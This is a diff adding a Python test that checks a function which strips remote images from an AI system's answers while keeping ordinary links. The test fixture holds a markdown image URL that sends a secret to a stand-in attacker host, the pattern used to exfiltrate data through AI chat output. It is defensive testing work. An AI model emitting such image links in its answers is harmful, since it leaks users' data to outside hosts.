@@ -125,3 +125,13 @@ def test_final_arguments_are_read_up_to_the_closing_parenthesis() -> None:
     assert reply.final_args == '"3 errors (2 fatal)", sources=hits'
     reply = prompts.parse_reply("```repl\nx = 2\n```\nFINAL_VAR(x)")
     assert reply.code_blocks and reply.final_var == "x"
+
+
+def test_remote_images_in_answers_are_neutralised() -> None:
+    text, count = prompts.neutralise_answer(
+        "Total 3. ![chart](http://evil.example/?q=SECRET) and <img src='https://x/y'> "
+        "but [a link](https://docs.example/) stays")
+    assert count == 2
+    assert "![" not in text and "<img" not in text
+    assert "[remote image removed: http://evil.example/?q=SECRET]" in text
+    assert "[a link](https://docs.example/)" in text
